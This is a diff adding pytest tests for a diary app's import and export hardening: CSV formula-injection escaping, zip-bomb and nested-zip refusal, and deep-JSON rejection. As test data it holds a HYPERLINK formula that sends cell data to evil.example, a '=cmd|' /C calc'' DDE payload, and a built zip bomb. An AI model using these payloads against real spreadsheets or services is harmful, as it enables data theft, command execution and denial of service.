@@ -1,3 +1,4 @@
+import csv
 import io
 import json
 import uuid
@@ -213,3 +214,80 @@ def test_an_imported_id_that_exists_with_other_content_is_reported(full_diary, t
     path.write_text(f"id,started_at,muscle,side\n{stored.uuid},{stored.started_at.isoformat()},toes,{stored.side}\n")
     with pytest.raises(CommandError, match="already in your diary with a different muscle"):
         call_command("import_diary", "--user", "alice@example.org", str(path))
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "- woke twice", "'=already quoted"]
+
+
+def csv_cells(archive: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(archive)) as files:
+        return [
+            cell
+            for name in files.namelist()
+            for row in csv.reader(io.StringIO(files.read(name).decode()))
+            for cell in row
+        ]
+
+
+def live_formulas(cells: list[str]) -> list[str]:
+    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_csv_export_carries_no_live_formula_and_round_trips_exactly(alice):
+    for number, text in enumerate(FORMULAS):
+        Episode.objects.create(
+            user=alice, started_at=datetime(2026, 10, 1 + number, 3, tzinfo=UTC), muscle="calf", side="left", notes=text
+        )
+    MedicationCourse.objects.create(
+        user=alice, name="=cmd|' /C calc'!A0", drug_class="statin", started_on=date(2026, 9, 1)
+    )
+    archive = exporter.csv_zip(alice)
+    cells = csv_cells(archive)
+    assert not live_formulas(cells)
+    assert "'=HYPERLINK" in "".join(cells)
+    newcomer = make_user("newcomer@example.org")
+    importer.import_sources(newcomer, importer.sources_from_uploads([("export.zip", archive)]))
+    assert sorted(Episode.objects.filter(user=newcomer).values_list("notes", flat=True)) == sorted(FORMULAS)
+    assert MedicationCourse.objects.get(user=newcomer).name == "=cmd|' /C calc'!A0"
+
+
+def _zip(files: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def _upload(content: bytes, name: str):
+    upload = io.BytesIO(content)
+    upload.name = name
+    return upload
+
+
+def test_a_zip_bomb_is_a_413_and_saves_nothing(alice_api, settings):
+    # 30 MB of one repeated row deflates to about 30 KB; read in full it would cost the worker its memory.
+    row = b"2026-10-01,3\n"
+    bomb = _zip({"checkins.csv": b"date,stress\n" + row * (30_000_000 // len(row))})
+    assert len(bomb) < 100_000
+    response = alice_api.post("/api/v1/import/", {"files": [_upload(bomb, "export.zip")]}, format="multipart")
+    assert response.status_code == 413
+    assert "unpacks to more than" in response.data["errors"][0]
+    assert CheckIn.objects.count() == 0
+
+
+def test_a_zip_inside_a_zip_is_refused(alice_api):
+    inner = _zip({"checkins.csv": b"date,stress\n2026-10-01,3\n"})
+    outer = _zip({"checkins.csv": b"date,stress\n2026-10-02,4\n", "more.zip": inner})
+    response = alice_api.post("/api/v1/import/", {"files": [_upload(outer, "export.zip")]}, format="multipart")
+    assert response.status_code == 400
+    assert any("a zip inside a zip" in message for message in response.data["errors"]), response.data
+    assert CheckIn.objects.count() == 0
+
+
+def test_a_deeply_nested_json_import_is_a_400(alice_api):
+    deep = b'{"format": "cramptrack-diary", "episodes": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
+    response = alice_api.post("/api/v1/import/", {"files": [_upload(deep, "export.json")]}, format="multipart")
+    assert response.status_code == 400
+    assert "nested too deeply" in response.data["errors"][0]
+    assert Episode.objects.count() == 0
